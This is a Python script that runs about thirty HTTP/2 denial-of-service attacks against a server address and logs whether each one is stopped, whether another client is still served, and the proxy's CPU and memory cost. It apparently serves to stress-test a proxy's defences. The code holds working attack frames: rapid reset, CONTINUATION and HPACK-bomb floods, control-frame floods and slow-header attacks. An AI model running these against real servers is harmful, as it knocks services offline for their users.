"""Attacks on a server of HTTP/2: each goes on until it is stopped, or has sent what no server should take.

    abuse.py ADDRESS [PID]

Prints one line of JSON for each: name, frames sent before it was stopped, seconds, whether it was, and whether another
client was answered then. With the proxy's process, also the CPU time that it took, in milliseconds, and how far its
memory rose above where it was, in KiB.
"""

import glob
import json
import re
import sys
import time

from hyperframe.frame import DataFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

from frames import CANCEL, PREFACE, Client, Ended, raw_frame

FRAMES_MAX = 20_000
SECONDS_MAX = 8.0
ATTACKS = []
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED = 1, 4, 8


class Stopped(Exception):
    """The proxy has had enough."""


class Attack:
    """A connection whose frames are counted, and which looks for the proxy's word between them."""

    def __init__(self, address, shakes_hands=True, settings=None):
        self.client = Client(address, settings=settings, shakes_hands=shakes_hands)
        self.frames = 0
        self.began = time.monotonic()

    def send(self, data, frames=1):
        try:
            self.client.socket.sendall(data)
        except OSError:
            raise Stopped from None
        self.frames += frames
        self.look(0.0)
        if self.frames > FRAMES_MAX or time.monotonic() - self.began > SECONDS_MAX:
            raise TimeoutError

    def look(self, timeout):
        """Reads what has come; Stopped where it is GOAWAY for an error, or the end."""
        socket = self.client.socket
        socket.settimeout(timeout if timeout else 0.000001)
        try:
            more = socket.recv(65536)
            if not more:
                raise Stopped
            self.client.bytes += more
        except (TimeoutError, BlockingIOError):
            pass
        except OSError:
            raise Stopped from None
        finally:
            socket.settimeout(5.0)
        while True:
            length = int.from_bytes(self.client.bytes[:3], "big")
            if len(self.client.bytes) < 9 + length:
                return
            frame, self.client.bytes = self.client.bytes[:9 + length], self.client.bytes[9 + length:]
            if frame[3] == GOAWAY:
                raise Stopped
            if frame[3] == RST_STREAM:
                self.reset(int.from_bytes(frame[5:9], "big"))

    def reset(self, stream):
        pass

    def wait(self):
        while time.monotonic() - self.began < SECONDS_MAX:
            self.look(0.1)
        raise TimeoutError

    def head(self, stream, flags=END_STREAM | END_HEADERS, extra=()):
        return raw_frame(HEADERS, flags, stream, self.client.block(self.client.fields(extra=extra)))


def attack(name, **arguments):
    def register(function):
        ATTACKS.append((name, function, arguments))
        return function
    return register


def flood(name, frame, per_send=50):
    @attack(name)
    def _(a):
        while True:
            a.send(frame * per_send, per_send)


def streams():
    stream = 1
    while True:
        yield stream
        stream += 2


@attack("rapid reset")
def _(a):
    for stream in streams():
        a.send(a.head(stream) + raw_frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")), 2)


def made_reset(name, provoke):
    """The client makes the server reset its streams, so that they no longer count."""
    @attack("made reset: " + name)
    def _(a):
        for stream in streams():
            a.send(a.head(stream, END_HEADERS) + provoke(a, stream), 2)


made_reset("window update of 0", lambda a, s: raw_frame(WINDOW_UPDATE, 0, s, b"\0\0\0\0"))
made_reset("window beyond its range", lambda a, s: raw_frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff"))
made_reset("data behind the end", lambda a, s: raw_frame(DATA, END_STREAM, s) + raw_frame(DATA, END_STREAM, s, b"x"))
made_reset("head behind the end", lambda a, s: raw_frame(DATA, END_STREAM, s) + a.head(s))
made_reset("priority of a wrong size", lambda a, s: raw_frame(PRIORITY, 0, s, b"\0\0\0\0"))
made_reset("dependency on itself", lambda a, s: raw_frame(PRIORITY, 0, s, s.to_bytes(4, "big") + b"\x01"))
made_reset("malformed trailers", lambda a, s: raw_frame(HEADERS, END_HEADERS, s, a.client.block([("x", "y")])))


@attack("continuation flood")
def _(a):
    a.send(raw_frame(HEADERS, END_STREAM, 1, a.client.block(a.client.fields())))
    while True:
        a.send(raw_frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 100))


@attack("flood of empty continuations")
def _(a):
    a.send(raw_frame(HEADERS, END_STREAM, 1, a.client.block(a.client.fields())))
    while True:
        a.send(raw_frame(CONTINUATION, 0, 1))


@attack("HPACK bomb")
def _(a):
    # One large field into the table, then a reference to it in each byte.
    block = a.client.block(a.client.fields()) + b"\x40\x01b\x7f\xa1\x1e" + b"x" * 4000
    a.send(raw_frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
    for stream in streams():
        a.send(raw_frame(HEADERS, END_STREAM | END_HEADERS, stream + 2, a.client.block(a.client.fields()) + b"\xbe" * 16000))


@attack("memory by reference")
def _(a):
    # Fifteen references to one large field in each head, and a body that does not come: what they stand for is held.
    block = a.client.block(a.client.fields("POST")) + b"\x40\x01b\x7f\xa1\x1e" + b"x" * 4000
    a.send(raw_frame(HEADERS, END_HEADERS, 1, block))
    for stream in streams():
        a.send(raw_frame(HEADERS, END_HEADERS, stream + 2, a.client.block(a.client.fields("POST")) + b"\xbe" * 15))


@attack("flood of table sizes")
def _(a):
    for stream in streams():
        a.send(raw_frame(HEADERS, END_STREAM | END_HEADERS, stream, b"\x20" * 16000))


def crowd(name, fields):
    """Heads with these fields besides: where each is answered by 431, as many as no harm is done by."""
    @attack(name)
    def _(a):
        for stream in streams():
            a.send(raw_frame(HEADERS, END_STREAM | END_HEADERS, stream, a.client.block(a.client.fields()) + fields))
            if stream > 2001:
                raise Stopped


crowd("too many fields", b"\x00\x01x\x01y" * 3000)
crowd("too many crumbs", b"\x00\x06cookie\x03a=b" * 1200)
flood("settings", raw_frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64"))
flood("empty settings", raw_frame(SETTINGS, 0, 0))
flood("acknowledged settings", raw_frame(SETTINGS, 1, 0))
flood("ping", raw_frame(PING, 0, 0, b"x" * 8))
flood("priority", raw_frame(PRIORITY, 0, 1, b"\0\0\0\0\x01"))
flood("window update", raw_frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"))
flood("unknown frames", raw_frame(0xbe, 0, 0, b"x" * 10))


@attack("goaway")
def _(a):
    while True:
        a.send(raw_frame(GOAWAY, 0, 0, b"\0" * 8) * 50, 50)


@attack("resets of one stream")
def _(a):
    a.send(a.head(1, END_HEADERS))
    while True:
        a.send(raw_frame(RST_STREAM, 0, 1, b"\0\0\0\x08") * 20, 20)


@attack("empty data")
def _(a):
    a.send(a.head(1, END_HEADERS))
    while True:
        a.send(raw_frame(DATA, 0, 1) * 50, 50)


@attack("padding alone")
def _(a):
    a.send(a.head(1, END_HEADERS))
    while True:
        a.send(raw_frame(DATA, PADDED, 1, b"\xff" + b"\0" * 255) * 20, 20)


@attack("closed window", settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
def _(a):
    stream = iter(streams())
    for _ in range(50):
        a.send(a.head(next(stream)))
    resets = set()
    a.reset = resets.add
    while time.monotonic() - a.began < SECONDS_MAX and len(resets) < 50:
        a.look(0.1)
    if len(resets) == 50:
        raise Stopped
    raise TimeoutError


@attack("unfinished head")
def _(a):
    a.send(raw_frame(HEADERS, END_STREAM, 1, a.client.block(a.client.fields())))
    a.wait()


@attack("dripping head")
def _(a):
    a.send(raw_frame(HEADERS, END_STREAM, 1, a.client.block(a.client.fields()))[:12])
    while True:
        time.sleep(0.2)
        a.send(b"\0")


@attack("half a preface", shakes_hands=False)
def _(a):
    a.send(PREFACE[:10])
    a.wait()


@attack("preface alone", shakes_hands=False)
def _(a):
    a.send(PREFACE)
    a.wait()


@attack("silence")
def _(a):
    a.wait()


class Process:
    """What a process has used, as the kernel counts it."""

    def __init__(self, pid):
        self.pid = pid
        # The high-water mark of its memory begins anew.
        with open(f"/proc/{pid}/clear_refs", "w") as clear:
            clear.write("5")
        self.cpu, self.memory = self.cpu_seconds(), self.kib("VmHWM")

    def cpu_seconds(self):
        return sum(int(open(file).read().split()[0]) for file in glob.glob(f"/proc/{self.pid}/task/*/schedstat")) / 1e9

    def kib(self, what):
        return int(re.search(what + r":\s+(\d+)", open(f"/proc/{self.pid}/status").read())[1])

    def used(self):
        return {"cpu_ms": round((self.cpu_seconds() - self.cpu) * 1000, 1), "kib": max(self.kib("VmHWM") - self.memory, 0)}


def warm_up(address):
    """As many requests at once as one connection may have: what they cost is no attack's."""
    client = Client(address)
    streams = range(1, 200, 2)
    for stream in streams:
        client.request(stream, client.fields(extra=[("x-usual", "x" * 8000)]))
    ended = set()
    while len(ended) < len(streams):
        frame = client.receive()
        if "END_STREAM" in frame.flags:
            ended.add(frame.stream_id)
        if isinstance(frame, DataFrame) and frame.flow_controlled_length:
            client.send(WindowUpdateFrame(0, frame.flow_controlled_length))
    client.close()


def main():
    address, pid = (sys.argv[1:] + [None])[:2]
    # So many connections that each worker has had one.
    for _ in range(12):
        warm_up(address)
    for name, run, arguments in ATTACKS:
        process = Process(pid) if pid else None
        attack = Attack(address, **arguments)
        is_stopped = False
        try:
            run(attack)
        except (Stopped, Ended):
            is_stopped = True
        except TimeoutError:
            pass
        seconds = time.monotonic() - attack.began
        used = process.used() if process else {}
        canary = Client(address)
        try:
            canary.request(1)
            canary.answered()
            is_answered = True
        except Exception:
            is_answered = False
        canary.close()
        attack.client.close()
        print(json.dumps({"name": name, "frames": attack.frames, "seconds": round(seconds, 2), "stopped": is_stopped,
                          "canary": is_answered, **used}), flush=True)


main()
